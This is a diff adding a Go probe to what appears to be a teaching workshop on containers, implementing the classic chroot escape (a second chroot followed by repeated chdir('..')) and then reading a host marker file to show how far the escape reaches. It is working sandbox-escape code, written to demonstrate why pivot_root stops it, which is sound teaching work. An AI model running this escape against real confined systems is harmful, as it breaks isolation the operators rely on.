@@ -1,0 +1,148 @@
+package attack
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"strings"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/how-to-be-a-container/workshop/pkg/observe"
+)
+
+// ChrootEscape is the classic way out of chroot(2): whoever may call chroot may
+// leave, for a process keeps only one root, and a working directory outside of
+// it is held back by nothing.
+var ChrootEscape = &Probe{
+	Name:  "chroot-escape",
+	Stops: "pivot-root",
+	Tries: "leave the root directory by a second chroot",
+	Run:   chrootEscape,
+	Why:   mountTable,
+}
+
+// MarkerEnv names a file of the host, and MarkerFact what the probe read there.
+const (
+	MarkerEnv  = "WORKSHOP_MARKER"
+	MarkerFact = "host's marker"
+)
+
+// The facts: the root directory before and after, by device and inode.
+const (
+	RootBefore = "/ before"
+	RootAfter  = "/ after"
+)
+
+var errSameRoot = errors.New("every call succeeded, and / is still the same directory: there is nothing above it")
+
+func chrootEscape(t *T) error {
+	before, err := rootID()
+	if err != nil {
+		return err
+	}
+	t.Fact(RootBefore, before)
+	if readMarker(t) {
+		t.Note("This is the host's root already: there is nothing to escape from.")
+		return nil
+	}
+	if err := climb(t); err != nil {
+		return err
+	}
+	after, err := rootID()
+	if err != nil {
+		return err
+	}
+	t.Fact(RootAfter, after)
+	if after == before {
+		return errSameRoot
+	}
+	return reach(t)
+}
+
+// reach shows what the way out is worth. In a user namespace every call of the
+// escape may succeed, and outside root is nobody: it reads what everybody may.
+func reach(t *T) error {
+	path := os.Getenv(MarkerEnv)
+	if path == "" || readMarker(t) {
+		return nil
+	}
+	read := func(path string) error {
+		return t.Do(fmt.Sprintf("open(%q)", path), func() error {
+			_, err := os.ReadFile(path)
+			return unwrapped(err)
+		})
+	}
+	_ = read("/proc/version") // for everybody
+	if err := read(path); err != nil {
+		return fmt.Errorf("it is out, and may read there what everybody may: %w", err)
+	}
+	return nil
+}
+
+// readMarker tells whether the host's marker can be read by its name.
+func readMarker(t *T) bool {
+	marker, err := os.ReadFile(os.Getenv(MarkerEnv))
+	if err == nil {
+		t.Fact(MarkerFact, strings.TrimSpace(string(marker)))
+	}
+	return err == nil
+}
+
+// mountTable shows what there is to escape to, where every call succeeded.
+func mountTable(s *observe.Snapshot, r Result) string {
+	if r.Errno != "" {
+		return ""
+	}
+	var mounts []string
+	for _, m := range s.Mounts {
+		mounts = append(mounts, m.FSType+" on "+m.Mountpoint)
+	}
+	return fmt.Sprintf("/proc/%d/mountinfo, all that the process can reach: %s.", s.PID, strings.Join(mounts, ", "))
+}
+
+// climb is the escape itself.
+func climb(t *T) error {
+	const dir = ".escape"
+	if err := t.Do(`chdir("/")`, func() error { return unix.Chdir("/") }); err != nil {
+		return err
+	}
+	if err := t.Do(`mkdir(".escape")`, func() error { return unix.Mkdir(dir, 0o700) }); err != nil {
+		return err
+	}
+	// The root moves down, the working directory stays: it is outside now.
+	err := t.Do(`chroot(".escape")`, func() error { return unix.Chroot(dir) })
+	_ = unix.Rmdir(dir) // a root that has no name any more is still a root
+	if err != nil {
+		return err
+	}
+	// ".." is stopped only by the process's own root, and that is below us.
+	if err := t.Do(`chdir("..") until nothing is above`, chdirToTop); err != nil {
+		return err
+	}
+	return t.Do(`chroot(".")`, func() error { return unix.Chroot(".") })
+}
+
+func chdirToTop() error {
+	for last := ""; ; {
+		here, err := fileID(".")
+		if err != nil || here == last {
+			return err
+		}
+		if err := unix.Chdir(".."); err != nil {
+			return err
+		}
+		last = here
+	}
+}
+
+func rootID() (string, error) { return fileID("/") }
+
+// fileID names a file as the kernel does.
+func fileID(path string) (string, error) {
+	var st unix.Stat_t
+	if err := unix.Stat(path, &st); err != nil {
+		return "", &os.PathError{Op: "stat", Path: path, Err: err}
+	}
+	return fmt.Sprintf("device %d:%d, inode %d", unix.Major(st.Dev), unix.Minor(st.Dev), st.Ino), nil
+}
